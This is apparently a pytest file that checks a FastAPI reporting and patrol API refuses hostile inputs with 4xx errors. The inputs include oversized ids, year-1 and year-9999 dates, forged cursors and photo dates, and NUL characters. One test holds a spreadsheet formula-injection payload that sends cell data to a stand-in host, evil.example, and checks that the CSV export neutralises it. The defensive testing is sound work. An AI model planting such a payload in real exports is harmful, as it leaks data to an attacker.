"""An attacker sends values the storage cannot hold: ids past PostgreSQL's INTEGER or past
64 bits, days in year 1 or 9999, photos dated by a reset camera clock, cursors with a forged
moment, NUL characters. Each is a 4xx problem naming what is wrong, or a field ignored,
never a 500."""

from __future__ import annotations

import base64
import csv
import io
import json
from collections.abc import Callable
from datetime import datetime, timedelta, timezone
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from app.core.database import utcnow
from tests.support import Headers, Jpeg
from tests.support.assessment import inspection
from tests.support.places import Spot
from tests.support.reports import multipart, report_body, upload
from tests.support.shops import shop_of, visit_body

PAST_INTEGER = 2**31  # one past PostgreSQL's INTEGER, which holds every id
PAST_64_BITS = 2**63
TOO_LARGE_IDS = [PAST_INTEGER, PAST_64_BITS]
EXTREME_DAYS = ["0001-01-01", "9999-12-31"]
EXTREME_MOMENTS = ["0001-01-01T00:00:00+08:00", "9999-12-31T23:59:59-05:00"]


def refused(answer: Any, status: int, code: str, *loc: str | int) -> None:
    assert (answer.status_code, answer.json()["code"]) == (status, code), answer.text
    if loc:
        assert any(e["loc"][: len(loc)] == list(loc) for e in answer.json()["errors"]), answer.text


@pytest.mark.parametrize("too_large", TOO_LARGE_IDS)
def test_an_id_too_large_is_refused_on_every_path_that_takes_one(
    app: FastAPI, client: TestClient, too_large: int
) -> None:
    """Every integer path parameter of the API (read from its OpenAPI): 422, not a 500."""
    tried = 0
    for path, operations in app.openapi()["paths"].items():
        for method, operation in operations.items():
            ids = [p["name"] for p in operation.get("parameters", [])
                   if p["in"] == "path" and p["schema"].get("type") == "integer"
                   and p["name"] != "year"]  # fmt: skip
            if not ids:
                continue
            url = path
            for name in ids:
                url = url.replace(f"{{{name}}}", str(too_large))
            url = url.replace("{variant}", "display")
            answer = client.request(method, url, json={})
            refused(answer, 422, "validation_failed", "path", ids[0])
            tried += 1
    assert tried >= 25  # the 25 of the issue; a new id route joins this list by itself


@pytest.mark.parametrize("too_large", TOO_LARGE_IDS)
def test_ids_too_large_in_bodies_are_refused(
    client: TestClient, phone: Callable[[str], TestClient], spot: Spot, too_large: int
) -> None:
    chief = phone("demo-chief-3")
    photo = report_body(spot, photos=[{"photo_id": too_large}])
    refused(chief.post("/api/v1/reports", json=photo), 422, "validation_failed",
            "body", "photos", 0, "photo_id")  # fmt: skip
    patrol = report_body(spot, patrol_id=too_large)
    refused(chief.post("/api/v1/reports", json=patrol), 422, "validation_failed",
            "body", "patrol_id")  # fmt: skip
    dry_run = {"category_code": "roads.manhole", "lon": spot.lon, "lat": spot.lat,
               "rule_set_version": too_large}  # fmt: skip
    refused(client.post("/api/v1/routing/dry-run", json=dry_run), 422, "validation_failed",
            "body", "rule_set_version")  # fmt: skip


@pytest.mark.parametrize("day", EXTREME_DAYS)
@pytest.mark.parametrize(
    ("url", "more"),
    [
        ("/api/v1/patrols/compliance", {}),
        ("/api/v1/patrols/coverage-map", {}),
        ("/api/v1/shops/visit-duty", {}),
        ("/api/v1/assessment/cases", {}),
        ("/api/v1/assessment/heatmap", {}),
        ("/api/v1/assessment/inspections", {}),
        ("/api/v1/assessment/cases/export.csv", {}),
        ("/api/v1/assessment/kpis", {"by": "street"}),
        ("/api/v1/assessment/inspection-scores", {"by": "street"}),
    ],
)
def test_days_in_year_1_or_9999_are_refused_in_every_range(
    client: TestClient, url: str, more: dict[str, str], day: str
) -> None:
    for params in ({"from": day, "to": day}, {"from": "2026-11-01", "to": day}):
        field = "from" if params["from"] == day else "to"
        answer = client.get(url, params={**params, **more})
        refused(answer, 422, "validation_failed", "query", field)
        [error] = [e for e in answer.json()["errors"] if e["loc"] == ["query", field]]
        assert error["message"] == "日期须在 2000 年至 2100 年之间"


@pytest.mark.parametrize("moment", EXTREME_MOMENTS)
def test_moments_in_year_1_or_9999_are_refused_in_queries_and_bodies(
    client: TestClient,
    phone: Callable[[str], TestClient],
    as_user: Headers,
    session: Session,
    spot: Spot,
    moment: str,
) -> None:
    for name in ("since", "until"):
        answer = client.get("/api/v1/admin/audit-events", params={name: moment})
        refused(answer, 422, "validation_failed", "query", name)
    chief = phone("demo-chief-3")
    answer = chief.post("/api/v1/reports", json=report_body(spot, device_time=moment))
    refused(answer, 422, "validation_failed", "body", "device_time")
    shop = shop_of(session, "demo-chief-2")
    answer = phone("demo-chief-2").post(f"/api/v1/shops/{shop.code}/visits",
                        json=visit_body(shop, visited_at=moment))  # fmt: skip
    refused(answer, 422, "validation_failed", "body", "visited_at")
    answer = client.post(
        "/api/v1/patrols", json={"started_at": moment}, headers=as_user("demo-chief-3")
    )
    refused(answer, 422, "validation_failed", "body", "started_at")
    answer = client.post("/api/v1/assessment/inspections", json=inspection(spot, ended_at=moment),
                         headers=as_user("demo-assessor"))  # fmt: skip
    refused(answer, 422, "validation_failed", "body", "ended_at")
    key = {"name": "同步", "jurisdiction_codes": ["410199"], "expires_at": moment}
    refused(client.post("/api/v1/admin/api-keys", json=key), 422, "validation_failed",
            "body", "expires_at")  # fmt: skip


@pytest.mark.parametrize("year", [1, 9999])
def test_a_photo_dated_in_year_1_or_9999_keeps_its_report_and_loses_only_its_date(
    phone: Callable[[str], TestClient], spot: Spot, good_jpeg: Jpeg, year: int
) -> None:
    chief = phone("demo-chief-3")
    # East of UTC in year 1 and west of it in 9999: in UTC, either moment leaves the calendar.
    east, west = timezone(timedelta(hours=8)), timezone(timedelta(hours=-8))
    taken = (
        datetime(1, 1, 1, 1, tzinfo=east) if year == 1 else datetime(9999, 12, 31, 23, tzinfo=west)
    )
    forged = good_jpeg(taken_at=taken)
    assert upload(chief, forged)["taken_at"] is None
    answer = multipart(chief, report_body(spot), [forged, good_jpeg()])
    assert answer.status_code == 201, answer.text
    detail = chief.get(f"/api/v1/reports/{answer.json()['report_id']}").json()
    assert [p["taken_long_before"] for p in detail["photos"]] == [False, False]


def _cursor(key: Any) -> str:
    raw = json.dumps({"k": key}).encode()
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


@pytest.mark.parametrize(
    "moment",
    ["2026-11-18T10:00:00", "0001-01-01T00:00:00+08:00", "9999-12-31T23:59:59-12:00"],
)
def test_a_cursor_with_a_naive_or_extreme_moment_is_refused(
    client: TestClient, as_user: Headers, moment: str
) -> None:
    cursor = _cursor([moment, 1])
    answer = client.get("/api/v1/tasks", params={"cursor": cursor},
                        headers=as_user("demo-staff"))  # fmt: skip
    refused(answer, 400, "invalid_cursor")
    day = utcnow().date().isoformat()
    answer = client.get("/api/v1/assessment/cases", params={"from": day, "to": day,
                                                            "cursor": cursor})  # fmt: skip
    refused(answer, 400, "invalid_cursor")


@pytest.mark.parametrize(
    "url", ["/api/v1/reports/mine", "/api/v1/admin/audit-events", "/api/v1/admin/users"]
)
@pytest.mark.parametrize("too_large", TOO_LARGE_IDS)
def test_a_cursor_with_an_id_too_large_is_refused(
    client: TestClient, as_user: Headers, url: str, too_large: int
) -> None:
    answer = client.get(url, params={"cursor": _cursor(too_large)})
    refused(answer, 400, "invalid_cursor")
    late = _cursor([utcnow().isoformat(), too_large])
    answer = client.get("/api/v1/tasks", params={"cursor": late}, headers=as_user("demo-staff"))
    refused(answer, 400, "invalid_cursor")


def test_a_cell_led_by_a_semicolon_is_exported_as_text(
    client: TestClient, phone: Callable[[str], TestClient], as_user: Headers, spot: Spot,
    good_jpeg: Jpeg,
) -> None:  # fmt: skip
    """Where `;` separates a spreadsheet's cells, `;=...` would open a formula."""
    chief = phone("demo-chief-3")
    formula = ';=HYPERLINK("http://evil.example/?"&A1,"详情")'
    answer = multipart(chief, report_body(spot, description=formula), [good_jpeg()])
    assert answer.status_code == 201, answer.text
    day = utcnow().astimezone(timezone(timedelta(hours=8))).date().isoformat()
    sheet = client.get("/api/v1/assessment/cases/export.csv", params={"from": day, "to": day},
                       headers=as_user("demo-assessor"))  # fmt: skip
    rows = list(csv.DictReader(io.StringIO(sheet.content.decode("utf-8-sig"))))
    assert [r["问题描述"] for r in rows] == ["'" + formula]


@pytest.mark.parametrize(
    "layer",
    ["jurisdictions", "grid-cells", "road-segments", "assets", "workstations", "shops", "units"],
)
def test_territory_lists_refuse_a_misspelt_filter(client: TestClient, layer: str) -> None:
    """`?stret=` must not answer with every feature as if no filter were asked for."""
    answer = client.get(f"/api/v1/territory/{layer}", params={"stret": "410199001"})
    refused(answer, 422, "validation_failed", "query", "stret")
    assert client.get(f"/api/v1/territory/{layer}", params={"limit": 1}).status_code == 200


def test_nul_characters_are_refused_wherever_they_come_from(client: TestClient) -> None:
    """PostgreSQL text cannot hold U+0000: a code, filter or name carrying one failed there
    (SQLite stored it); both engines refuse it before the statement is sent."""
    answer = client.get("/api/v1/territory/road-segments/RS%00")
    refused(answer, 422, "text_with_nul")
    answer = client.get("/api/v1/territory/road-segments", params={"street": "410199001\x00"})
    refused(answer, 422, "text_with_nul")
    user = {"username": "nul.name", "display_name": "王\x00五", "password": "Long-enough-2026",
            "roles": ["dispatcher"], "jurisdiction_codes": ["410199"]}  # fmt: skip
    refused(client.post("/api/v1/admin/users", json=user), 422, "text_with_nul")
    assert client.get("/api/v1/admin/users", params={"q": "nul.name"}).json()["items"] == []
    key = {"name": "同步", "jurisdiction_codes": ["\x00"]}
    refused(client.post("/api/v1/admin/api-keys", json=key), 422, "validation_failed",
            "body", "jurisdiction_codes", 0)  # fmt: skip
